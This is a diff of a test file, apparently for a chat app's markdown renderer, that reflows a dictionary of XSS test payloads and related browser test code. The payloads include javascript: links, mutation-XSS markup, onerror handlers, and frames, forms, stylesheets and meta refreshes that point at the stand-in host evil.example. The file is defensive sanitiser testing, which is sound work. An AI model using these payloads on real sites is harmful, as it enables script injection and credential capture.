@@ -21,15 +21,20 @@ ATTACKS = {
     "javascript-link": "[click](javascript:window.pwned=1) [data](data:text/html,<script>1</script>) "
     "[entity](&#106;avascript:window.pwned=1) <javascript:window.pwned=1>",
     "frame": '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>',
-    "style": "<style>body{background:url(https://evil.example/bg)}</style><p style='background:url(//evil.example)'>x",
-    "form": '<form action="https://evil.example"><input name=password autofocus onfocus="window.pwned=1"></form>',
-    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
-    "link": '<link rel="stylesheet" href="https://evil.example/a.css"><link rel=prefetch href="//evil.example">',
+    "style": "<style>body{background:url(https://evil.example/bg)}</style>"
+    "<p style='background:url(//evil.example)'>x",
+    "form": '<form action="https://evil.example">'
+    '<input name=password autofocus onfocus="window.pwned=1"></form>',
+    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
+    '<base href="https://evil.example/">',
+    "link": '<link rel="stylesheet" href="//evil.example/a.css"><link rel=prefetch href="//evil.example">',
     "maths": r"$\href{javascript:window.pwned=1}{x}$ $\includegraphics{https://evil.example/i.png}$ "
     r"$$\htmlStyle{background:url(https://evil.example)}{x}$$",
-    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
+    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
+    "<img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
     "code": '```"><img src=x onerror=window.pwned=1>\nx\n```\n\n`<img src=x onerror=window.pwned=1>`',
-    "heading": "# <a name=x href=javascript:window.pwned=1>title</a>\n\n| <img src=//evil.example/t.png> |\n|---|\n| <b onclick=1>x</b> |",
+    "heading": "# <a name=x href=javascript:window.pwned=1>title</a>\n\n"
+    "| <img src=//evil.example/t.png> |\n|---|\n| <b onclick=1>x</b> |",
 }
 
 
@@ -51,7 +56,8 @@ def show_as_answer(chat: Screen, text: str, size: int) -> None:
             body.className = "body attacked";
             document.querySelector(".messages").append(body);
             const view = new MarkdownView(body);
-            for (let end = size; end < text.length; end += size) view.show(text.slice(0, end), { isWhole: false });
+            for (let end = size; end < text.length; end += size)
+                view.show(text.slice(0, end), { isWhole: false });
             view.show(text);
         }""",
         {"text": text, "size": size},
@@ -112,7 +118,8 @@ def test_a_citation_cannot_carry_a_script(watched: tuple[Screen, list[str]]) -> 
             const text = document.createElement("p");
             text.textContent = "See [1].";
             document.querySelector(".messages").append(text);
-            addChips([text], [{ number: 1, title: "<img src=x>", url: "javascript:window.pwned=1", quote: "" }]);
+            const url = "javascript:window.pwned=1";
+            addChips([text], [{ number: 1, title: "<img src=x>", url, quote: "" }]);
             return text.querySelector("a.cite").getAttribute("href");
         }"""
     )
